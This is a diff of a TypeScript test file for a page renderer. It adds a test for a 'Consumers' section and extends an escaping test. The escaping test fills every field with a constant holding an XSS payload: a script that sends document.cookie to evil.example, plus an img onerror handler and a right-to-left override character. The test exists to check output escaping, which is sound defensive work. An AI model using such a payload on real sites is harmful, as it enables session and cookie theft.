@@ -5,6 +5,7 @@ import { pageOf } from '../../../src/app/page/page.ts';
 import { inFlight, NOW } from '../../support/journals.ts';
 import { memberOf, sick } from '../../support/members.ts';
 import { pageFleet, pageOfMembers } from '../../support/page-fleet.ts';
+import { consumer, read, readersBy } from '../../support/readings.ts';
 
 const HOSTILE = `"><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\u202E`;
 
@@ -35,6 +36,12 @@ describe('the page', () => {
       'Secrets',
       'History',
     ]);
+  });
+
+  test('has the consumers before the history, where somebody asked for them', () => {
+    expect(html).not.toContain('id="consumers"');
+    const asked = pageOf({ ...pageFleet(), readers: readersBy({}) });
+    expect(asked).toMatch(/<h2 id="consumers-title">Consumers<\/h2>.*<h2 id="history-title">/s);
   });
 
   test('every id is there once, and every link leads to one', () => {
@@ -74,9 +81,16 @@ describe('whatever others wrote', () => {
     });
     const page = pageOfMembers([member, memberOf()], { problems: [HOSTILE] });
     const holders = new Map([[HOSTILE, [{ secret: HOSTILE, version: 1, readAs: HOSTILE }]]]);
-    const html = pageOf({ ...page, holders, stops: [{ project: HOSTILE, why: HOSTILE }] });
+    const hostile = consumer(HOSTILE, [read(HOSTILE, HOSTILE, { at: HOSTILE })], {
+      name: HOSTILE,
+      project: HOSTILE,
+      region: HOSTILE,
+      running: [{ name: HOSTILE, share: 0, tag: HOSTILE, reads: [read('7', HOSTILE, { at: HOSTILE })] }],
+    });
+    const readers = readersBy({ [HOSTILE]: [hostile] }, [HOSTILE]);
+    const html = pageOf({ ...page, holders, readers, stops: [{ project: HOSTILE, why: HOSTILE }] });
     expect(html).not.toMatch(/<script|<img|\u202E/);
-    expect(html.match(/&lt;script&gt;/g)?.length).toBeGreaterThan(10);
+    expect(html.match(/&lt;script&gt;/g)?.length).toBeGreaterThan(20);
   });
 
   test('a key that stands in a text is not on the page (I9)', () => {
